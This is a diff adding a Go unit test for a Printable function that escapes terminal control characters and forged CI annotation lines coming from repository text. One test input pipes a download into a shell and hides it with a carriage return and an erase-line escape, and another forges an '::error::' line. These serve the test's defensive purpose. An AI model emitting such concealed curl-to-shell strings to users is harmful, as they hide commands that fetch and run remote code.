@@ -21,3 +21,22 @@ func TestWords(t *testing.T) {
 		}
 	}
 }
+
+// Text from a repository cannot move the cursor, hide what precedes it,
+// or start a line of its own.
+func TestPrintable(t *testing.T) {
+	for in, want := range map[string]string{
+		"make test":                   "make test",
+		"curl x|sh\r\x1b[2Kmake test": `curl x|sh\r\x1b[2Kmake test`,
+		"a.go\n::error::forged":       `a.go\n::error::forged`,
+		"c1 \u0085 next":              `c1 \x85 next`,
+		"tab\tstays":                  "tab\tstays",
+	} {
+		if got := Printable(in, false); got != want {
+			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
+		}
+	}
+	if got := Printable("two\nlines\x07", true); got != "two\nlines\\x07" {
+		t.Errorf("keepNewlines: %q", got)
+	}
+}
